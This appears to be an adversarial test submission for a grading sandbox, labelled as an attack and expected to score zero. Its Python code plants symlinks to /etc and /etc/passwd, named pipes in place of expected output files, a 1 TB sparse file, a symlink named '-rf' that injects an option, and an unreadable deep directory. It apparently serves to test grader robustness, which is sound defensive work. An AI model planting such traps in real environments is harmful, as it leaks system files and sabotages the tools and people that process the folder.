# attack: links, pipes and huge empty files are left in the working folder for whoever reads or copies it afterwards
# gains: files outside, copied into the results; a grader that waits at a pipe
# expect: 0 points in check-0-1
# canary: grader
# %% exercise-0-1
# include: wrong
import os
from pathlib import Path

for name, target in {"etc": "/etc", "notes.txt": "/etc/passwd", "loop": "loop", "above": "../../.."}.items():
    if not os.path.lexists(name):
        os.symlink(target, name)
for name in ("00_start_here.ipynb", "result.json"):
    if not os.path.lexists(name):
        os.mkfifo(name)
try:
    with open("big.bin", "wb") as file:
        file.truncate(2**40)  # holes: no block of the disk is used
    os.symlink("/etc/passwd", "-rf")
    deep = Path(*["deep"] * 100)
    deep.mkdir(parents=True, exist_ok=True)
    deep.chmod(0)
except OSError as error:
    print(type(error).__name__)
